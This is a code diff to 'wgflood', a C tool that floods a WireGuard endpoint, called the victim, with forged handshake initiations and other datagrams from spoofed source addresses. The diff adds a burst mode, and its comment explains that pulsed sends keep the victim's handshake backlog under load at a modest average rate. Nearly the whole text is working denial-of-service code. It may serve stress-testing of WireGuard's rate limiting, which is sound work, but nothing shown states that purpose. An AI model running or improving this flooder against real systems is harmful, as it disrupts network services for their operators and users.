@@ -19,6 +19,10 @@
  *            sends initiations with valid mac1 and mac2, which only the
  *            per-source rate limiter can stop
  *
+ * Rate: -r datagrams per second (0 = as fast as possible), spread evenly, or
+ * with -b N in bursts of N back to back (same average rate): a pulsed flood
+ * deepens the victim's handshake backlog at once, so it stays under load
+ * (which lingers a second) at a modest average rate on any machine.
  * Runs for -t seconds or until SIGINT/SIGTERM.
  * Output: one line "wgflood: key=value ..." on stdout. Exit status 0, or 1
  * on a setup error (or, in cookie mode, when no cookie could be learned). */
@@ -73,6 +77,7 @@ struct opts {
 	uint32_t src_count;
 	double rate; /* datagrams per second, 0 = as fast as possible */
 	double duration;
+	int burst;	    /* >0: send in bursts of this many, same average rate */
 	const char *ifname; /* capture interface, NULL = all */
 };
 
@@ -488,25 +493,38 @@ static void send_batch(struct flood *f, struct batch *b, int count)
 	f->c.sent += (uint64_t)count;
 }
 
-/* Paced loop: batches spread evenly over the duration; if we fall more than
+/* Datagrams per pacing step: 1 ms worth (at most one sendmmsg), or a
+ * whole burst when pulsing. */
+static int step_size(const struct opts *o)
+{
+	if (o->burst)
+		return o->burst;
+	if (o->rate <= 0)
+		return BATCH_MAX;
+	if (o->rate < 1000)
+		return 1;
+	return o->rate < 64000 ? (int)(o->rate / 1000) : BATCH_MAX;
+}
+
+static void send_step(struct flood *f, struct batch *b, int n)
+{
+	for (int i = 0; i < n; i += BATCH_MAX)
+		send_batch(f, b, n - i < BATCH_MAX ? n - i : BATCH_MAX);
+}
+
+/* Paced loop: steps spread evenly over the duration; if we fall more than
  * a second behind we resynchronise instead of bursting. */
 static void run_flood(struct flood *f)
 {
 	struct batch *b = malloc(sizeof(*b));
 	uint64_t start = mono_ns(), end = start + (uint64_t)(f->o.duration * 1e9), next = start;
-	int per = BATCH_MAX;
-	uint64_t gap = 0;
+	int per = step_size(&f->o);
+	uint64_t gap = f->o.rate > 0 ? (uint64_t)(1e9 * per / f->o.rate) : 0;
 
 	if (!b)
 		return;
-	if (f->o.rate > 0) {
-		per = f->o.rate < 1000	  ? 1
-		      : f->o.rate < 64000 ? (int)(f->o.rate / 1000)
-					  : BATCH_MAX;
-		gap = (uint64_t)(1e9 * per / f->o.rate);
-	}
 	while (!stopping && mono_ns() < end) {
-		send_batch(f, b, per);
+		send_step(f, b, per);
 		drain_capture(f);
 		if (!gap)
 			continue;
@@ -587,7 +605,8 @@ static void usage(void)
 	fprintf(stderr,
 		"usage: wgflood -m garbage|init|noise|replay|data|cookie -d IPv4:PORT\n"
 		"               -s SRC_PREFIX/LEN [-k VICTIM_PUBKEY] [-p PEER_PRIVKEY_FILE]\n"
-		"               [-T TS_OFFSET_S] [-r PPS] [-t SECONDS] [-i CAPTURE_IFACE]\n");
+		"               [-T TS_OFFSET_S] [-r PPS] [-b BURST] [-t SECONDS] [-i "
+		"CAPTURE_IFACE]\n");
 	exit(1);
 }
 
@@ -640,7 +659,7 @@ static void parse_args(struct opts *o, int argc, char **argv)
 	int c, m = -1;
 	bool dst = false, src = false;
 
-	while ((c = getopt(argc, argv, "m:d:s:k:p:T:r:t:i:")) != -1) {
+	while ((c = getopt(argc, argv, "m:d:s:k:p:T:r:t:i:b:")) != -1) {
 		switch (c) {
 		case 'm':
 			m = parse_mode(optarg);
@@ -668,6 +687,9 @@ static void parse_args(struct opts *o, int argc, char **argv)
 			break;
 		case 'i':
 			o->ifname = optarg;
+			break;
+		case 'b':
+			o->burst = atoi(optarg);
 			break;
 		default:
 			usage();
